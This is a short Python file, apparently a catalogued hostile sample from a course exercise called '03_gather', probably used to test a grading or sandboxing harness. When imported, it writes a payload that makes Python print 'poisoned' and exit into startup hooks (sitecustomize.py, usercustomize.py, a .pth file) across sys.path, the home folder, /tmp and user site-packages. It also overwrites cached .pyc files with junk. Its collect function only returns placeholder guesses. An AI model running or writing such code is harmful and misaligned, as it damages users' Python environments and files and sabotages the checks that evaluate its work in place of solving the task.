"""Leaves compiled files, start-up files and settings where the next run could read them.

exercise: 03_gather
catalogue: 65
harm: writes into the interpreter, the home folder and the course
"""

import os
import site
import sys
from pathlib import Path

POISON = "import os, sys\nsys.stdout.write('poisoned')\nos._exit(0)\n"
folders = [*map(Path, sys.path), Path(os.path.expanduser("~")), Path("/tmp"), Path(site.getusersitepackages())]
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "gather.py", "feeds.py"):
        try:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(POISON)
        except OSError:
            pass
    for cache in folder.glob("**/__pycache__/*.pyc"):
        try:
            cache.write_bytes(cache.read_bytes()[:16] + b"x" * 64)
        except OSError:
            pass


async def collect(first, second, third):
    return ["guess", "guess", "guess"]
